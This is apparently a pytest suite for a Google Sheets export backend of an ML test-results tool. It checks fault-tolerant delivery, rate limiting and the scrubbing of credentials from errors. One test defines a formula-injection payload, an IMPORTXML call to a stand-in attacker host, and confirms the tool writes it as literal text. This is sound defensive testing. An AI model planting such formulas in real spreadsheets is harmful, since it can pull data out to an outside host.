"""The Google Sheets destination against a local Sheets API (tests/store/sheets_server.py), gspread unmodified.

Each fault (429 bursts, 500s, a write applied and answered with a 503, a reply slower than the client's
timeout, a connection dropped after the write) must end with every run in the sheet exactly once.
The delivery bookkeeping is a store contract, run against every backend.
"""

from __future__ import annotations

import json
import os
import random
from collections import Counter
from pathlib import Path
from typing import Any

import pytest
from sheets_server import SPREADSHEET, FakeClock, Formula, SheetsServer, Worksheet, running_server
from test_store_contract import BACKENDS, make_env, make_run, sha, ts, url_for

from mltest.errors import ConfigError, MissingExtraError, StoreError
from mltest.model import Measurement, Run, TestResult
from mltest.store import Store, open_store
from mltest.store.gsheets import (
    COLUMN_NAMES,
    COLUMNS,
    Baseline,
    RetryPolicy,
    SheetsError,
    SheetSink,
    SheetsUnavailable,
    TokenBucket,
    check_sheet,
    load_credentials,
    open_sheet,
    parse_sheets_url,
    sheet_rows,
    sync_runs,
)

URL = f"gsheets://{SPREADSHEET}/results"
SINK = f"gsheets://{SPREADSHEET}/results"
HOSTILE = '=IMPORTXML("https://evil.example/x", "//a")'


# ----------------------------------------------------------------------------- helpers
def record(store: Store, run_id: str, day: int, values: dict[str, float], **run_fields: Any) -> Run:
    """A finished run with one test per metric name in ``values`` (test ``t.py::test_<metric>``)."""
    run = make_run(run_id, sha(str(day % 10)), started_at=ts(day), subject=f"commit {day}", **run_fields)
    store.begin_run(run)
    store.add_results(
        run_id,
        [TestResult(f"t.py::test_{metric}", "passed", 1.0) for metric in values],
        [Measurement(f"t.py::test_{metric}", metric, value, "s", False) for metric, value in values.items()],
    )
    store.finish_run(run_id, "passed", ts(day, 30))
    stored = store.get_run(run_id)
    assert stored is not None
    return stored


def rows_for(store: Store) -> Any:
    return lambda run: sheet_rows(run, store.run_measurements(run.run_id), repo_url="https://git.example/p")


def open_sink(env: dict[str, str], clock: FakeClock, *, url: str = URL, timeout: float = 0.5) -> SheetSink:
    return open_sheet(
        url,
        credentials_path=None,
        environ=env,
        timeout=timeout,
        retry=RetryPolicy(attempts=6, sleep=clock.sleep, rng=random.Random(0)),
        reads=TokenBucket(54, 5, clock=clock, sleep=clock.sleep),
        writes=TokenBucket(54, 5, clock=clock, sleep=clock.sleep),
    )


def run_counts(sheet: Worksheet) -> Counter[str]:
    column = sheet.rows[0].index("run_id")
    return Counter(row[column] for row in sheet.data_rows())


@pytest.fixture
def store(tmp_path: Path) -> Any:
    opened = open_store(f"sqlite:///{tmp_path / 'results.db'}", root=tmp_path)
    try:
        yield opened
    finally:
        opened.close()


@pytest.fixture
def three_runs(store: Store) -> list[Run]:
    return [record(store, f"run{i}", i + 1, {"step_time": 0.1 * (i + 1), "loss": 1.0 / (i + 1)}) for i in range(3)]


# ----------------------------------------------------------------------------- URL
@pytest.mark.parametrize(
    ("url", "key", "worksheet"),
    [
        (f"gsheets://{SPREADSHEET}", SPREADSHEET, "mltest"),
        (f"gsheets://{SPREADSHEET}/", SPREADSHEET, "mltest"),
        (f"gsheets://{SPREADSHEET}/Nightly%20runs", SPREADSHEET, "Nightly runs"),
        ("GSHEETS://abc/results", "abc", "results"),
    ],
)
def test_sheets_url_parses(url: str, key: str, worksheet: str) -> None:
    target = parse_sheets_url(url)
    assert (target.key, target.worksheet) == (key, worksheet)
    assert parse_sheets_url(target.url) == target


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://docs.google.com/spreadsheets/d/abc/edit", "is not a gsheets:// URL"),
        ("gsheets://", "has no valid spreadsheet key"),
        ("gsheets://a b/x", "has no valid spreadsheet key"),
        ("gsheets://abc/a:b", "a worksheet name cannot contain"),
    ],
)
def test_bad_sheets_url_is_a_one_line_config_error(url: str, expected: str) -> None:
    with pytest.raises(ConfigError) as caught:
        parse_sheets_url(url)
    message = str(caught.value)
    assert expected in message
    assert "gsheets://SPREADSHEET_KEY[/WORKSHEET]" in message
    assert "\n" not in message


# ----------------------------------------------------------------------------- rows
def test_rows_follow_the_documented_columns(store: Store) -> None:
    run = record(store, "r1", 1, {"accuracy": 0.91}, branch="dev", ci_url="https://ci.example/1")
    run = Run(**{**run.__dict__, "environment": make_env(gpu_model="A100", gpu_count=2, torch="2.13.0")})
    [row] = sheet_rows(
        run,
        store.run_measurements("r1"),
        repo_url="https://git.example/p/",
        baselines={("t.py::test_accuracy", "accuracy"): Baseline(0.95, True)},
    )
    assert list(row) == list(COLUMN_NAMES)
    assert row == {
        "date": "2024-01-01 00:00:00",
        "commit": sha("1")[:10],
        "commit_url": f"https://git.example/p/commit/{sha('1')}",
        "subject": "commit 1",
        "branch": "dev",
        "tier": "integration",
        "test": "t.py::test_accuracy",
        "metric": "accuracy",
        "value": 0.91,
        "unit": "s",
        "baseline": 0.95,
        "delta_pct": pytest.approx(-4.210526, abs=1e-6),
        "regression": True,
        "gpu": "A100 x2",
        "torch": "2.13.0",
        "run_id": "r1",
        "ci_url": "https://ci.example/1",
    }
    [plain] = sheet_rows(run, store.run_measurements("r1"))
    assert (plain["commit_url"], plain["baseline"], plain["delta_pct"], plain["regression"]) == ("", "", "", "")


# ----------------------------------------------------------------------------- syncing
def test_first_sync_creates_the_worksheet_and_header_and_sends_every_run_once(
    sheets: SheetsServer, sheets_env: dict[str, str], fake_clock: FakeClock, store: Store, three_runs: list[Run]
) -> None:
    sink = open_sink(sheets_env, fake_clock)
    result = sync_runs(store, sink, rows_for(store))
    assert (result.sent_runs, result.sent_rows, result.already_there, result.pending) == (3, 6, 0, 0)
    sheet = sheets.worksheet(SPREADSHEET, "results")
    assert sheet.rows[0] == list(COLUMN_NAMES)
    assert run_counts(sheet) == {"run0": 2, "run1": 2, "run2": 2}
    assert sheets.count("append") == 1  # the runs went in one batched append
    assert set(store.deliveries(SINK)) == {"run0", "run1", "run2"}
    assert store.pending_runs(SINK) == []
    # Values are typed: the value a number, the commit text even when it is all digits.
    value = sheet.rows[0].index("value")
    assert all(isinstance(row[value], float) for row in sheet.data_rows())
    again = sync_runs(store, open_sink(sheets_env, fake_clock), rows_for(store))
    assert (again.sent_runs, again.sent_rows) == (0, 0)
    assert sheets.count("append") == 1
    record(store, "run3", 9, {"step_time": 0.4})
    later = sync_runs(store, open_sink(sheets_env, fake_clock), rows_for(store))
    assert (later.sent_runs, later.sent_rows) == (1, 1)
    assert run_counts(sheet)["run3"] == 1


def test_running_runs_and_other_projects_wait(
    sheets: SheetsServer, sheets_env: dict[str, str], fake_clock: FakeClock, store: Store
) -> None:
    record(store, "mine", 1, {"loss": 1.0})
    record(store, "theirs", 2, {"loss": 2.0}, project="other")
    store.begin_run(make_run("live", sha("3"), started_at=ts(3)))
    result = sync_runs(store, open_sink(sheets_env, fake_clock), rows_for(store), project="proj")
    assert result.sent_runs == 1
    assert run_counts(sheets.worksheet(SPREADSHEET, "results")) == {"mine": 1}


def test_hostile_text_is_stored_as_the_literal_text(
    sheets: SheetsServer, sheets_env: dict[str, str], fake_clock: FakeClock, store: Store
) -> None:
    run = make_run("evil", sha("e"), started_at=ts(1), subject=HOSTILE, branch="=1+1")
    store.begin_run(run)
    store.add_results("evil", [], [Measurement(HOSTILE, "+0123", 1.5, "=A1")])
    store.finish_run("evil", "passed", ts(1, 1))
    sync_runs(store, open_sink(sheets_env, fake_clock), rows_for(store))
    sheet = sheets.worksheet(SPREADSHEET, "results")
    [row] = [dict(zip(sheet.rows[0], r, strict=False)) for r in sheet.data_rows()]
    assert (row["subject"], row["test"], row["metric"], row["unit"], row["branch"]) == (
        HOSTILE,
        HOSTILE,
        "+0123",
        "=A1",
        "=1+1",
    )
    assert not any(isinstance(v, Formula) for v in sheet.rows[1])
    assert {q.get("valueInputOption") for op, _, q in sheets.calls if op in ("append", "values_update")} == {"RAW"}
    # The server does turn such text into formulas under USER_ENTERED: this test can tell.
    assert isinstance(SheetsServer._input(HOSTILE, "USER_ENTERED"), Formula)


def test_an_old_sheet_gets_the_new_columns_and_rows_in_its_own_order(
    sheets: SheetsServer, sheets_env: dict[str, str], fake_clock: FakeClock, store: Store
) -> None:
    old_header = ["run_id", "date", "test", "metric", "value", "notes"]
    old_row = ["old-run", "2023-12-31 00:00:00", "t.py::x", "loss", 2.0, "kept"]
    sheets.spreadsheets[SPREADSHEET]["results"] = Worksheet("results", 7, [old_header, old_row], 1000, 10)
    record(store, "new-run", 1, {"loss": 0.5})
    sync_runs(store, open_sink(sheets_env, fake_clock), rows_for(store))
    sheet = sheets.worksheet(SPREADSHEET, "results")
    header = sheet.rows[0]
    assert header == old_header + [c for c in COLUMN_NAMES if c not in old_header]
    assert sheet.column_count >= len(header)  # the 10-column grid was widened first
    assert sheet.rows[1] == old_row
    new = dict(zip(header, sheet.rows[2], strict=True))
    assert (new["run_id"], new["metric"], new["value"], new["notes"], new["branch"]) == (
        "new-run",
        "loss",
        0.5,
        "",
        "main",
    )


def test_a_header_with_every_column_is_left_alone(
    sheets: SheetsServer, sheets_env: dict[str, str], fake_clock: FakeClock, store: Store
) -> None:
    header = [*reversed(COLUMN_NAMES)]
    sheets.spreadsheets[SPREADSHEET]["results"] = Worksheet("results", 7, [header])
    record(store, "r", 1, {"loss": 0.5})
    sync_runs(store, open_sink(sheets_env, fake_clock), rows_for(store))
    assert sheets.count("values_update") == 0
    sheet = sheets.worksheet(SPREADSHEET, "results")
    assert dict(zip(header, sheet.rows[1], strict=True))["value"] == 0.5


# ----------------------------------------------------------------------------- faults
@pytest.mark.reliability  # issue 11, item 4: also selected by `-m reliability`
@pytest.mark.parametrize(
    ("kind", "times", "appends"),
    [
        ("429", 4, 5),  # certain failures: re-sent after each
        ("500", 2, 3),
        ("500-applied", 1, 1),  # applied, answered 503: the re-read finds it, nothing is re-sent
        ("slow", 1, 1),  # applied, reply later than the client's timeout
        ("drop", 1, 1),  # applied, connection closed without a reply
        ("drop", 3, 1),
    ],
)
def test_faults_lose_nothing_and_duplicate_nothing(
    sheets: SheetsServer,
    sheets_env: dict[str, str],
    fake_clock: FakeClock,
    store: Store,
    three_runs: list[Run],
    kind: str,
    times: int,
    appends: int,
) -> None:
    sheets.fail("append", kind, times=times, delay=1.0)
    result = sync_runs(store, open_sink(sheets_env, fake_clock, timeout=0.3), rows_for(store))
    assert run_counts(sheets.worksheet(SPREADSHEET, "results")) == {"run0": 2, "run1": 2, "run2": 2}
    assert sheets.count("append") == appends
    assert result.pending == 0
    assert store.pending_runs(SINK) == []
    assert len(fake_clock.sleeps) >= 1  # it backed off


@pytest.mark.reliability
def test_faults_on_reads_and_the_token_endpoint_are_retried(
    sheets: SheetsServer, sheets_env: dict[str, str], fake_clock: FakeClock, store: Store, three_runs: list[Run]
) -> None:
    sheets.fail("token", "500")
    sheets.fail("metadata", "429", times=2)
    sheets.fail("values_get", "500", times=2)
    sheets.fail("batch_update", "drop")  # addSheet applied, reply lost: the retry finds the worksheet
    sync_runs(store, open_sink(sheets_env, fake_clock), rows_for(store))
    assert run_counts(sheets.worksheet(SPREADSHEET, "results")) == {"run0": 2, "run1": 2, "run2": 2}


def test_a_sheet_that_keeps_failing_leaves_the_runs_queued_and_a_later_sync_sends_them_once(
    sheets: SheetsServer, sheets_env: dict[str, str], fake_clock: FakeClock, store: Store, three_runs: list[Run]
) -> None:
    sheets.fail("append", "500", times=6)
    with pytest.raises(SheetsUnavailable) as caught:
        sync_runs(store, open_sink(sheets_env, fake_clock), rows_for(store))
    message = str(caught.value)
    assert "\n" not in message
    assert "after 6 tries" in message
    assert "3 run(s) stay queued" in message
    assert [r.run_id for r in store.pending_runs(SINK)] == ["run0", "run1", "run2"]
    result = sync_runs(store, open_sink(sheets_env, fake_clock), rows_for(store))
    assert result.sent_runs == 3
    assert run_counts(sheets.worksheet(SPREADSHEET, "results")) == {"run0": 2, "run1": 2, "run2": 2}


def test_a_crash_after_the_append_before_marking_is_caught_by_the_next_sync(
    sheets: SheetsServer, sheets_env: dict[str, str], fake_clock: FakeClock, store: Store, three_runs: list[Run]
) -> None:
    class Crash(Exception):
        pass

    real = store.mark_delivered

    def crash(*args: Any) -> None:
        raise Crash

    store.mark_delivered = crash  # type: ignore[method-assign]
    with pytest.raises(Crash):
        sync_runs(store, open_sink(sheets_env, fake_clock), rows_for(store))
    store.mark_delivered = real  # type: ignore[method-assign]
    assert len(store.pending_runs(SINK)) == 3
    result = sync_runs(store, open_sink(sheets_env, fake_clock), rows_for(store))
    assert (result.sent_runs, result.already_there) == (0, 3)
    assert run_counts(sheets.worksheet(SPREADSHEET, "results")) == {"run0": 2, "run1": 2, "run2": 2}
    assert store.pending_runs(SINK) == []


def test_big_backlogs_go_in_batches_of_whole_runs(
    sheets: SheetsServer, sheets_env: dict[str, str], fake_clock: FakeClock, store: Store, three_runs: list[Run]
) -> None:
    sync_runs(store, open_sink(sheets_env, fake_clock), rows_for(store), max_rows=3)
    assert sheets.count("append") == 3  # 2 rows per run: a run is never split
    assert run_counts(sheets.worksheet(SPREADSHEET, "results")) == {"run0": 2, "run1": 2, "run2": 2}


# ----------------------------------------------------------------------------- throttling and backoff
def test_token_bucket_allows_a_burst_then_the_rate(fake_clock: FakeClock) -> None:
    bucket = TokenBucket(60, 2, clock=fake_clock, sleep=fake_clock.sleep)
    waits = [bucket.acquire() for _ in range(5)]
    assert waits == [0.0, 0.0, pytest.approx(1.0), pytest.approx(1.0), pytest.approx(1.0)]
    fake_clock.now += 10  # idle time refills up to the burst, no more
    assert [bucket.acquire() for _ in range(3)] == [0.0, 0.0, pytest.approx(1.0)]


def test_writes_are_throttled_to_the_quota(
    sheets: SheetsServer, sheets_env: dict[str, str], fake_clock: FakeClock, store: Store, three_runs: list[Run]
) -> None:
    sink = open_sink(sheets_env, fake_clock)
    sink.writes = TokenBucket(6, 1, clock=fake_clock, sleep=fake_clock.sleep)  # one write per 10 s
    start = fake_clock.now
    sync_runs(store, sink, rows_for(store), max_rows=2)
    # addSheet + header + 3 appends = 5 writes at one per 10 s: 40 s of waiting, no faster
    assert fake_clock.now - start == pytest.approx(40.0)
    assert sheets.count("append") == 3


def test_default_throttle_stays_under_60_writes_in_any_minute(fake_clock: FakeClock) -> None:
    bucket = TokenBucket(54, 5, clock=fake_clock, sleep=fake_clock.sleep)
    times = []
    for _ in range(200):
        bucket.acquire()
        times.append(fake_clock.now)
    assert max(sum(1 for t in times if start <= t < start + 60) for start in times) <= 60


def test_backoff_is_exponential_with_jitter_and_honours_retry_after() -> None:
    policy = RetryPolicy(base=1.0, cap=20.0, rng=random.Random(3))
    for attempt in range(1, 8):
        delays = {policy.delay(attempt) for _ in range(20)}
        assert all(1.0 <= d <= min(20.0, 2**attempt) for d in delays)
        assert len(delays) > 1  # jitter
    assert policy.delay(1, retry_after=7.0) == 7.0


# ----------------------------------------------------------------------------- credentials and errors
def all_secrets(info: dict[str, Any], sheets: SheetsServer) -> list[str]:
    key_lines = [line for line in info["private_key"].splitlines() if "PRIVATE KEY" not in line and line]
    return [info["private_key"], info["private_key_id"], *key_lines, *sheets.tokens]


def test_credentials_never_appear_in_errors(
    sheets: SheetsServer,
    service_account: dict[str, Any],
    sheets_env: dict[str, str],
    fake_clock: FakeClock,
    store: Store,
    three_runs: list[Run],
) -> None:
    messages = []
    sheets.fail("append", "500", times=6)
    with pytest.raises(SheetsError) as caught:
        sync_runs(store, open_sink(sheets_env, fake_clock), rows_for(store))
    messages.append(str(caught.value))
    with pytest.raises(SheetsError) as caught:  # an unknown spreadsheet
        sync_runs(store, open_sink(sheets_env, fake_clock, url="gsheets://nosuchkey/x"), rows_for(store))
    messages.append(str(caught.value))
    assert "check the spreadsheet key" in messages[-1]
    stranger = {**service_account, "client_email": "other@x.iam.gserviceaccount.com"}
    other_key = json.loads(json.dumps(stranger))
    sheets.public_keys.clear()  # the server no longer trusts the key: the token is refused
    with pytest.raises(SheetsError) as caught:
        sync_runs(
            store,
            open_sink({**sheets_env, "MLTEST_SHEETS_CREDENTIALS_JSON": json.dumps(other_key)}, fake_clock),
            rows_for(store),
        )
    messages.append(str(caught.value))
    assert "was refused a token" in messages[-1]
    assert sheets.tokens  # a token was issued earlier: it must not show either
    for message in messages:
        assert "\n" not in message
        for secret in all_secrets(service_account, sheets):
            assert secret not in message


def test_scrub_removes_the_key_and_the_token(sheets_env: dict[str, str], service_account: dict[str, Any]) -> None:
    sink = open_sheet(URL, credentials_path=None, environ=sheets_env)
    sink._http.auth.token = "ya29.secret-token-value"
    text = f"boom {service_account['private_key']} {service_account['private_key_id']} ya29.secret-token-value"
    scrubbed = sink.scrub(text)
    assert "ya29.secret-token-value" not in scrubbed
    assert service_account["private_key_id"] not in scrubbed
    assert "PRIVATE KEY" in scrubbed or "***" in scrubbed
    for line in service_account["private_key"].splitlines()[1:-1]:
        assert line not in scrubbed


def test_missing_credentials_say_how_to_give_them() -> None:
    with pytest.raises(ConfigError) as caught:
        load_credentials(None, {})
    message = str(caught.value)
    assert "sheets_credentials" in message
    assert "MLTEST_SHEETS_CREDENTIALS_JSON" in message
    assert "GOOGLE_APPLICATION_CREDENTIALS" in message
    assert "\n" not in message


def test_credential_sources_and_their_errors(tmp_path: Path, service_account: dict[str, Any]) -> None:
    good = tmp_path / "sa.json"
    good.write_text(json.dumps(service_account), encoding="utf-8")
    env_json = {"MLTEST_SHEETS_CREDENTIALS_JSON": json.dumps({**service_account, "client_email": "env@x"})}
    assert load_credentials(str(good), env_json)["client_email"] == service_account["client_email"]
    assert load_credentials(None, env_json)["client_email"] == "env@x"
    assert load_credentials(None, {"GOOGLE_APPLICATION_CREDENTIALS": str(good)}) == service_account

    broken = json.dumps(service_account)[:-40]  # cut: the private key is in the text
    cases = [
        (None, {"MLTEST_SHEETS_CREDENTIALS_JSON": broken}, "MLTEST_SHEETS_CREDENTIALS_JSON is not valid JSON"),
        (str(tmp_path / "missing.json"), {}, "cannot read the credentials file"),
        (None, {"GOOGLE_APPLICATION_CREDENTIALS": str(tmp_path)}, "cannot read the credentials file"),
        (None, {"MLTEST_SHEETS_CREDENTIALS_JSON": '{"type": "authorized_user"}'}, "is not a service-account key"),
        (
            None,
            {"MLTEST_SHEETS_CREDENTIALS_JSON": json.dumps({**service_account, "token_uri": ""})},
            "has no 'token_uri'",
        ),
    ]
    for path, environ, expected in cases:
        with pytest.raises(ConfigError) as caught:
            load_credentials(path, environ)
        message = str(caught.value)
        assert expected in message
        assert "\n" not in message
        assert "PRIVATE KEY" not in message
        assert service_account["private_key_id"] not in message


def test_an_unreadable_private_key_is_a_config_error(
    sheets_env: dict[str, str], service_account: dict[str, Any]
) -> None:
    bad = {**service_account, "private_key": "-----BEGIN PRIVATE KEY-----\nnot a key\n-----END PRIVATE KEY-----\n"}
    with pytest.raises(ConfigError) as caught:
        open_sheet(URL, credentials_path=None, environ={"MLTEST_SHEETS_CREDENTIALS_JSON": json.dumps(bad)})
    assert "private_key that cannot be read" in str(caught.value)
    assert "not a key" not in str(caught.value)


def test_missing_gspread_names_the_extra(monkeypatch: pytest.MonkeyPatch) -> None:
    import importlib.util

    real = importlib.util.find_spec
    monkeypatch.setattr(importlib.util, "find_spec", lambda name, *a: None if name == "gspread" else real(name, *a))
    with pytest.raises(MissingExtraError) as caught:
        open_sheet(URL, credentials_path=None, environ={})
    assert "pip install 'mltest[gsheets]'" in str(caught.value)


def test_an_authorized_session_can_be_injected(sheets: SheetsServer, store: Store, three_runs: list[Run]) -> None:
    import requests
    from requests.adapters import HTTPAdapter

    token = "ya29.injected"
    sheets.tokens.add(token)
    base = sheets.base_url

    class Local(HTTPAdapter):
        def send(self, request: Any, *args: Any, **kwargs: Any) -> Any:
            request.url = request.url.replace("https://sheets.googleapis.com", base)
            return super().send(request, *args, **kwargs)

    session = requests.Session()
    session.headers["Authorization"] = f"Bearer {token}"
    session.mount("https://sheets.googleapis.com/", Local())
    try:
        sink = open_sheet(URL, credentials_path=None, environ={}, session=session)
        assert sync_runs(store, sink, rows_for(store)).sent_runs == 3
    finally:
        session.close()


# ----------------------------------------------------------------------------- checking
def test_check_finds_missing_extra_duplicate_and_changed_rows(
    sheets: SheetsServer, sheets_env: dict[str, str], fake_clock: FakeClock, store: Store, three_runs: list[Run]
) -> None:
    sink = open_sink(sheets_env, fake_clock)
    sync_runs(store, sink, rows_for(store))
    clean = check_sheet(store, sink, rows_for(store))
    assert clean.ok
    assert clean.runs_checked == 3
    record(store, "queued", 9, {"loss": 1.0})
    assert check_sheet(store, sink, rows_for(store)).queued == 1

    sheet = sheets.worksheet(SPREADSHEET, "results")
    header = sheet.rows[0]
    by_run = {
        run_id: [r for r in sheet.rows[1:] if r[header.index("run_id")] == run_id] for run_id in run_counts(sheet)
    }
    sheet.rows.remove(by_run["run0"][0])  # one row of run0 missing
    sheet.rows.append(list(by_run["run1"][0]))  # a duplicate of a run1 row
    by_run["run2"][0][header.index("value")] = 99.0  # a changed value
    stranger = list(by_run["run2"][1])
    stranger[header.index("run_id")] = "not-in-store"
    sheet.rows.append(stranger)  # a run the store does not have
    result = check_sheet(store, sink, rows_for(store))
    assert not result.ok
    assert len(result.missing) == 1
    assert "run run0: 1 of 2" in result.missing[0]
    assert len(result.duplicates) == 1
    assert "run run1" in result.duplicates[0]
    assert "2 times" in result.duplicates[0]
    assert len(result.changed) == 1
    assert "value is 99.0 in the sheet" in result.changed[0]
    assert len(result.extra) == 1
    assert "not-in-store" in result.extra[0]
    assert result.lines()[0].startswith(f"the sheet {SINK} differs from the store: 1 missing, 1 extra")


# ----------------------------------------------------------------------------- the delivery contract
@pytest.fixture(params=BACKENDS)
def any_store(request: pytest.FixtureRequest, tmp_path: Path) -> Any:
    opened = open_store(url_for(str(request.param), request, tmp_path), root=tmp_path)
    try:
        yield opened
    finally:
        opened.close()


def test_delivery_contract(any_store: Store) -> None:
    store = any_store
    for i, project in enumerate(["proj", "proj", "other"]):
        record(store, f"r{i}", i + 1, {"loss": 1.0}, project=project)
    store.begin_run(make_run("running", sha("9"), started_at=ts(9)))
    assert [r.run_id for r in store.pending_runs("s1")] == ["r0", "r1", "r2"]  # oldest first, none running
    assert [r.run_id for r in store.pending_runs("s1", project="proj")] == ["r0", "r1"]
    assert [r.run_id for r in store.pending_runs("s1", limit=1)] == ["r0"]
    assert store.pending_runs("s1")[0] == store.get_run("r0")
    store.mark_delivered("s1", ["r1", "r1"], ts(20))
    store.mark_delivered("s1", ["r1"], ts(21))  # a repeat keeps the first time
    assert store.deliveries("s1") == {"r1": ts(20)}
    assert [r.run_id for r in store.pending_runs("s1")] == ["r0", "r2"]
    assert [r.run_id for r in store.pending_runs("s2")] == ["r0", "r1", "r2"]  # per sink
    assert store.deliveries("s2") == {}
    store.mark_delivered("s1", [], ts(22))
    with pytest.raises(StoreError) as caught:
        store.mark_delivered("s1", ["r0", "nope"], ts(23))
    assert "'nope'" in str(caught.value)
    assert store.deliveries("s1") == {"r1": ts(20)}  # all or nothing
    store.finish_run("running", "passed", ts(9, 5))
    assert [r.run_id for r in store.pending_runs("s1")] == ["r0", "r2", "running"]


# ----------------------------------------------------------------------------- against Google (opt-in)
LIVE_URL = os.environ.get("MLTEST_LIVE_SHEETS_URL", "")
LIVE_ENV = {
    k: v
    for k, v in os.environ.items()
    if k in ("MLTEST_SHEETS_CREDENTIALS_JSON", "GOOGLE_APPLICATION_CREDENTIALS", "MLTEST_SHEETS_CREDENTIALS")
}


@pytest.mark.live_sheets
@pytest.mark.skipif(
    not LIVE_URL or not LIVE_ENV,
    reason="set MLTEST_LIVE_SHEETS_URL=gsheets://KEY/WORKSHEET and service-account credentials to run against Google",
)
def test_live_round_trip_against_a_real_sheet(store: Store) -> None:
    """The same round trip against Google: a fresh worksheet per run, every row once, --check clean."""
    import uuid

    target = parse_sheets_url(LIVE_URL)
    url = f"gsheets://{target.key}/{target.worksheet}-{uuid.uuid4().hex[:8]}"
    for i in range(2):
        record(store, f"live{i}", i + 1, {"step_time": 0.1 * (i + 1), "loss": 1.0})
    sink = open_sheet(url, credentials_path=LIVE_ENV.get("MLTEST_SHEETS_CREDENTIALS"), environ=LIVE_ENV)
    result = sync_runs(store, sink, rows_for(store))
    assert (result.sent_runs, result.sent_rows) == (2, 4)
    assert sink.run_ids() == {"live0": 2, "live1": 2}
    assert sync_runs(store, sink, rows_for(store)).sent_runs == 0
    assert check_sheet(store, sink, rows_for(store)).ok


def test_columns_are_documented_once_and_unique() -> None:
    assert len(set(COLUMN_NAMES)) == len(COLUMNS)
    assert COLUMN_NAMES[:3] == ("date", "commit", "commit_url")  # order is part of the format: append only
    assert "run_id" in COLUMN_NAMES


def test_the_local_server_starts_and_stops() -> None:
    with running_server() as server:
        base = server.base_url
        import requests

        assert requests.get(base + "/v4/spreadsheets/x", timeout=5).status_code == 401
    with pytest.raises(requests.exceptions.ConnectionError):
        requests.get(base + "/v4/spreadsheets/x", timeout=5)
